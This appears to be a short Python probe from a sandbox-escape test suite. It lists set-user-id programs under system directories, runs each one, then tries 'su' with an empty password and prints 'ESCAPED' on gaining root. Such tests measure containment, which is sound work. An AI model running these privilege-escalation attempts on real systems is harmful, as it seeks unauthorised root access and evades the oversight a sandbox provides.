"""Runs every set-user-id program to become root.

Escape: the line ESCAPED.
Tiers: both
"""

import glob
import os
import subprocess

for path in glob.glob("/usr/bin/*") + glob.glob("/bin/*") + glob.glob("/usr/lib/*/*"):
    try:
        if os.stat(path).st_mode & 0o6000 and os.path.isfile(path):
            print(path, subprocess.run([path, "--help"], capture_output=True, timeout=2, input=b"").returncode)
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
out = subprocess.run(["su", "-c", "id -u"], capture_output=True, input=b"\n", timeout=5).stdout
if out.strip() == b"0":
    print("ESCAPED")
